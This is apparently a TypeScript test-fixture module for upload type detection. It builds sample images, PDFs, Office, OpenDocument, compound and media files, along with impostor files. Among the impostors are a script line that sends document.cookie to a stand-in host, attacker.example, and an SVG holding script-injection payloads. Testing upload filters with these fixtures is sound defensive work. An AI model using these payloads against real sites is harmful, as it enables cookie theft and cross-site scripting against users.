/**
 * Real sample files, made in-process, for tests of upload type detection: every allowed type and
 * the usual impostors. Pictures come from sharp (installed with Strapi's upload plugin), compound
 * files from the `cfb` package, everything else is written byte by byte here. Nothing is
 * downloaded, and files can be made distinct (colour, text) or padded to a size.
 */
import zlib from 'node:zlib';
import * as CFB from 'cfb';
import sharp from 'sharp';

/* --------------------------------------------------------------------------------------------
 * Pictures (sharp encodes them, so these are asynchronous)
 * ------------------------------------------------------------------------------------------ */

export interface PictureOptions {
  /** Any CSS colour; different colours give different bytes. Default '#c00'. */
  color?: string;
  width?: number;
  height?: number;
}

const picture = ({ color = '#c00', width = 8, height = 8 }: PictureOptions = {}) =>
  sharp({ create: { width, height, channels: 3, background: color } });

export const jpeg = (options?: PictureOptions): Promise<Buffer> => picture(options).jpeg().toBuffer();
export const png = (options?: PictureOptions): Promise<Buffer> => picture(options).png().toBuffer();
export const gif = (options?: PictureOptions): Promise<Buffer> => picture(options).gif().toBuffer();
export const webp = (options?: PictureOptions): Promise<Buffer> => picture(options).webp().toBuffer();
export const avif = (options?: PictureOptions): Promise<Buffer> => picture(options).avif().toBuffer();

/* --------------------------------------------------------------------------------------------
 * PDF
 * ------------------------------------------------------------------------------------------ */

export interface PdfOptions {
  /** The one line of text on the page. */
  text?: string;
  /** Grow the file to at least this many bytes (an unused padding stream keeps it valid). */
  padTo?: number;
}

/** A one-page PDF with a correct cross-reference table. */
export function pdf({ text = 'Ban Dan van', padTo = 0 }: PdfOptions = {}): Buffer {
  const build = (padding: number): Buffer => {
    const content = `BT /F1 18 Tf 20 50 Td (${text.replace(/[()\\]/g, '\\$&')}) Tj ET`;
    const objects = [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ];
    if (padding > 0) objects.push(`<< /Length ${padding} >>\nstream\n${' '.repeat(padding)}\nendstream`);
    // The second line's high bytes mark the file as binary, as PDF writers do.
    let body = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
    const offsets: number[] = [];
    objects.forEach((object, index) => {
      offsets.push(body.length);
      body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    });
    const xref = body.length;
    body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
    for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
    body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
    return Buffer.from(body, 'latin1');
  };
  // The padding object's own overhead and its /Length digits shift the size: settle in a few rounds
  // (exactly padTo, unless that is too close to the unpadded size for a padding object to fit).
  let padding = 0;
  for (let round = 0; round < 6; round += 1) {
    const missing = padTo - build(padding).length;
    if (missing === 0 || (padding === 0 && missing < 0)) break;
    padding = Math.max(1, padding + missing);
  }
  return build(padding);
}

/* --------------------------------------------------------------------------------------------
 * ZIP and the formats built on it
 * ------------------------------------------------------------------------------------------ */

export interface ZipEntryInput {
  name: string;
  data: Buffer | string;
}

/** A ZIP archive of stored (uncompressed) entries: local headers, central directory, EOCD record. */
export function zipArchive(entries: readonly ZipEntryInput[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const data = Buffer.isBuffer(entry.data) ? entry.data : Buffer.from(entry.data, 'utf8');
    const name = Buffer.from(entry.name, 'utf8');
    const crc = zlib.crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(0x0800, 6); // names are UTF-8
    local.writeUInt16LE(0, 8); // stored
    local.writeUInt16LE(0, 10); // time
    local.writeUInt16LE(0x21, 12); // date: 1980-01-01
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4); // made by
    central.writeUInt16LE(20, 6); // needed
    local.copy(central, 8, 6, 30); // flags, method, time, date, CRC, sizes, name and extra lengths
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += local.length + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

export interface OfficeOptions {
  /** The text in the document (a cell's value for a workbook). */
  text?: string;
  /** Add a VBA project, which makes it the macro-enabled format (DOCM, XLSM, PPTM). */
  macros?: boolean;
  /** Add this many small extra parts, e.g. to push the central directory past the last 64 KB. */
  extraEntries?: number;
}

const xml = (body: string) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${body}`;
const OOXML_MAIN: Record<'word' | 'xl' | 'ppt', { part: string; type: string; relType: string }> = {
  word: {
    part: 'word/document.xml',
    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
    relType: 'officeDocument',
  },
  xl: {
    part: 'xl/workbook.xml',
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
    relType: 'officeDocument',
  },
  ppt: {
    part: 'ppt/presentation.xml',
    type: 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
    relType: 'officeDocument',
  },
};

function officeOpenXml(
  folder: 'word' | 'xl' | 'ppt',
  mainXml: string,
  { macros = false, extraEntries = 0 }: OfficeOptions
): Buffer {
  const main = OOXML_MAIN[folder];
  const entries: ZipEntryInput[] = [
    {
      name: '[Content_Types].xml',
      data: xml(
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
          '<Default Extension="xml" ContentType="application/xml"/>' +
          `<Override PartName="/${main.part}" ContentType="${main.type}"/></Types>`
      ),
    },
    {
      name: '_rels/.rels',
      data: xml(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${main.relType}" Target="${main.part}"/>` +
          '</Relationships>'
      ),
    },
    { name: main.part, data: xml(mainXml) },
  ];
  if (macros)
    entries.push({ name: `${folder}/vbaProject.bin`, data: compoundFile({ VBA: Buffer.from('Attribute VB_Name') }) });
  for (let index = 0; index < extraEntries; index += 1) {
    entries.push({
      name: `${folder}/customXml/item-with-a-rather-long-name-${String(index).padStart(6, '0')}.xml`,
      data: xml('<x/>'),
    });
  }
  return zipArchive(entries);
}

export const docx = (options: OfficeOptions = {}): Buffer =>
  officeOpenXml(
    'word',
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
      `<w:body><w:p><w:r><w:t>${options.text ?? 'Ban Dân vận'}</w:t></w:r></w:p></w:body></w:document>`,
    options
  );

export const xlsx = (options: OfficeOptions = {}): Buffer =>
  officeOpenXml(
    'xl',
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' +
      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
      `<sheets><sheet name="${options.text ?? 'Sheet1'}" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    options
  );

export const pptx = (options: OfficeOptions = {}): Buffer =>
  officeOpenXml(
    'ppt',
    '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">' +
      `<p:sldSz cx="9144000" cy="6858000"/><!-- ${options.text ?? 'slides'} --></p:presentation>`,
    options
  );

export interface OpenDocumentOptions {
  text?: string;
  /** The content of the "mimetype" entry, to make other OpenDocument kinds. */
  mimetype?: string;
}

function openDocument(mimetype: string, body: string): Buffer {
  const ns = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"';
  return zipArchive([
    // First and stored, as the OpenDocument package format requires.
    { name: 'mimetype', data: mimetype },
    {
      name: 'META-INF/manifest.xml',
      data: xml(
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">' +
          `<manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/>` +
          '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
      ),
    },
    {
      name: 'content.xml',
      data: xml(
        `<office:document-content ${ns} office:version="1.2"><office:body>${body}</office:body></office:document-content>`
      ),
    },
  ]);
}

export const odt = ({
  text = 'Ban Dân vận',
  mimetype = 'application/vnd.oasis.opendocument.text',
}: OpenDocumentOptions = {}): Buffer =>
  openDocument(
    mimetype,
    `<office:text><text:p xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">${text}</text:p></office:text>`
  );

export const ods = ({
  text = 'Sheet1',
  mimetype = 'application/vnd.oasis.opendocument.spreadsheet',
}: OpenDocumentOptions = {}): Buffer =>
  openDocument(
    mimetype,
    `<office:spreadsheet><table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" table:name="${text}"/></office:spreadsheet>`
  );

/** A plain ZIP holding a script: an archive is never a document. */
export const zip = (): Buffer => zipArchive([{ name: 'payload.js', data: js() }]);

/* --------------------------------------------------------------------------------------------
 * Microsoft compound files (OLE2/CFB)
 * ------------------------------------------------------------------------------------------ */

/** A compound file whose root storage holds these streams. */
export function compoundFile(streams: Record<string, Buffer>): Buffer {
  const container = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(streams)) CFB.utils.cfb_add(container, `/${name}`, content);
  return CFB.write(container, { type: 'buffer' }) as Buffer;
}

export interface CompoundOptions {
  /** Bytes of the main stream; different text gives different bytes. */
  text?: string;
}

/** A Word 97-2003 document: its "WordDocument" stream begins with the FIB's magic 0xA5EC. */
export const doc = ({ text = 'Ban Dan van' }: CompoundOptions = {}): Buffer =>
  compoundFile({
    WordDocument: Buffer.concat([Buffer.from([0xec, 0xa5, 0xc1, 0x00]), Buffer.from(text)]),
    '1Table': Buffer.alloc(16),
  });

/** An Excel 97-2003 workbook: its "Workbook" stream begins with a BIFF8 BOF record. */
export const xls = ({ text = 'Sheet1' }: CompoundOptions = {}): Buffer =>
  compoundFile({
    Workbook: Buffer.concat([Buffer.from([0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00]), Buffer.from(text)]),
  });

/** A PowerPoint 97-2003 presentation. */
export const ppt = ({ text = 'slides' }: CompoundOptions = {}): Buffer =>
  compoundFile({ 'PowerPoint Document': Buffer.from(text), 'Current User': Buffer.alloc(16) });

/** Shaped like a Windows Installer package: a compound file, but none of Word, Excel or PowerPoint. */
export const msi = (): Buffer =>
  compoundFile({
    '\u0005SummaryInformation': Buffer.alloc(48),
    '\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824': Buffer.from('MSI tables'),
  });

/* --------------------------------------------------------------------------------------------
 * Audio and video (headers and a little structure: enough for type detection, not for playback)
 * ------------------------------------------------------------------------------------------ */

export interface Mp3Options {
  /** MPEG frames after the tag (each 417 bytes of silence at 128 kbit/s, 44.1 kHz). */
  frames?: number;
  /** Start with an ID3v2 tag. Default true. */
  id3?: boolean;
  /** Padding inside the ID3 tag, e.g. to put the first frame beyond the first 8 KB. */
  tagPadding?: number;
  title?: string;
}

/** An MP3: an optional ID3v2.3 tag with a title, then MPEG-1 Layer III frames. */
export function mp3({ frames = 8, id3 = true, tagPadding = 0, title = 'Ban Dan van' }: Mp3Options = {}): Buffer {
  const frame = Buffer.alloc(417);
  frame.set([0xff, 0xfb, 0x90, 0x64]); // sync, MPEG-1 Layer III, 128 kbit/s, 44.1 kHz, joint stereo
  const audio = Buffer.concat(Array.from({ length: frames }, () => frame));
  if (!id3) return audio;
  const titleFrame = Buffer.concat([
    Buffer.from('TIT2'),
    Buffer.alloc(6),
    Buffer.from([0]),
    Buffer.from(title, 'latin1'),
  ]);
  titleFrame.writeUInt32BE(title.length + 1, 4);
  const tagBody = Buffer.concat([titleFrame, Buffer.alloc(tagPadding)]);
  const header = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, 0]);
  // ID3 sizes are synchsafe: seven bits in each byte.
  for (let index = 0; index < 4; index += 1) header[6 + index] = (tagBody.length >> (7 * (3 - index))) & 0x7f;
  return Buffer.concat([header, tagBody, audio]);
}

const box = (type: string, payload: Buffer): Buffer => {
  const header = Buffer.alloc(8);
  header.writeUInt32BE(8 + payload.length, 0);
  header.write(type, 4, 'latin1');
  return Buffer.concat([header, payload]);
};

export interface IsoMediaOptions {
  /** The ftyp box's major brand. Default 'isom'; e.g. 'qt  ' makes a QuickTime movie, 'heic' a HEIF picture. */
  brand?: string;
  compatible?: string[];
}

/** An MP4: ftyp, then a movie header box and a little media data. */
export function mp4({ brand = 'isom', compatible = ['isom', 'iso2', 'avc1', 'mp41'] }: IsoMediaOptions = {}): Buffer {
  const ftyp = box(
    'ftyp',
    Buffer.concat([
      Buffer.from(brand, 'latin1'),
      Buffer.from([0, 0, 2, 0]),
      ...compatible.map((b) => Buffer.from(b, 'latin1')),
    ])
  );
  const mvhd = box('mvhd', Buffer.alloc(100));
  return Buffer.concat([ftyp, box('moov', mvhd), box('mdat', Buffer.alloc(64))]);
}

const ebmlElement = (id: number[], payload: Buffer): Buffer => {
  // Sizes are EBML variable-length integers: one byte below 127, otherwise eight.
  const size = payload.length < 127 ? Buffer.from([0x80 | payload.length]) : Buffer.from([0x01, 0, 0, 0, 0, 0, 0, 0]);
  if (payload.length >= 127) size.writeUIntBE(payload.length, 2, 6);
  return Buffer.concat([Buffer.from(id), size, payload]);
};

function ebmlFile(docType: string): Buffer {
  const header = ebmlElement(
    [0x1a, 0x45, 0xdf, 0xa3],
    Buffer.concat([
      ebmlElement([0x42, 0x86], Buffer.from([1])), // EBMLVersion
      ebmlElement([0x42, 0xf7], Buffer.from([1])), // EBMLReadVersion
      ebmlElement([0x42, 0xf2], Buffer.from([4])), // EBMLMaxIDLength
      ebmlElement([0x42, 0xf3], Buffer.from([8])), // EBMLMaxSizeLength
      ebmlElement([0x42, 0x82], Buffer.from(docType, 'latin1')), // DocType
      ebmlElement([0x42, 0x87], Buffer.from([4])), // DocTypeVersion
      ebmlElement([0x42, 0x85], Buffer.from([2])), // DocTypeReadVersion
    ])
  );
  const info = ebmlElement([0x15, 0x49, 0xa9, 0x66], ebmlElement([0x2a, 0xd7, 0xb1], Buffer.from([0x0f, 0x42, 0x40]))); // TimestampScale
  return Buffer.concat([header, ebmlElement([0x18, 0x53, 0x80, 0x67], info)]);
}

/** A WebM file: EBML header with DocType "webm", then a segment. */
export const webm = (): Buffer => ebmlFile('webm');
/** A Matroska file: the same structure with DocType "matroska", which is not allowed. */
export const mkv = (): Buffer => ebmlFile('matroska');

/* --------------------------------------------------------------------------------------------
 * Impostors
 * ------------------------------------------------------------------------------------------ */

export const html = (): Buffer =>
  Buffer.from(
    '<!DOCTYPE html>\n<html><head><title>Ảnh</title></head><body><script>fetch("/admin/users").then(r => r.text()).then(alert)</script></body></html>\n'
  );

export const js = (): Buffer =>
  Buffer.from('fetch("https://attacker.example/steal?c=" + encodeURIComponent(document.cookie));\n');

export interface SvgOptions {
  /** Inner markup of the <svg> root. */
  body?: string;
  /** Prepend an XML declaration, a comment and an SVG 1.1 DOCTYPE, as drawing programs do. */
  prolog?: boolean;
}

/** A clean SVG picture. */
export function svg({
  body = '<rect x="1" y="1" width="8" height="8" fill="#c00"/>',
  prolog = false,
}: SvgOptions = {}): Buffer {
  const head = prolog
    ? '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generator: a drawing program -->\n' +
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    : '';
  return Buffer.from(
    `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">${body}</svg>\n`
  );
}

/** An SVG that runs script three ways: a <script> element, an event handler and a javascript: link. */
export const svgWithScript = (): Buffer =>
  svg({
    body:
      '<script>alert(document.domain)</script>' +
      '<rect width="10" height="10" onload="alert(1)"/>' +
      '<a href="javascript:alert(2)"><circle cx="5" cy="5" r="2"/></a>',
  });

/** The start of a Windows executable: DOS header, stub, and the PE signature its e_lfanew points to. */
export function exe(): Buffer {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt16LE(0x90, 2);
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x8664, 0x84); // x86-64
  return bytes;
}

/** The start of a Linux executable. */
export function elf(): Buffer {
  const bytes = Buffer.alloc(64);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
  bytes.writeUInt16LE(2, 16); // executable
  bytes.writeUInt16LE(0x3e, 18); // x86-64
  return bytes;
}
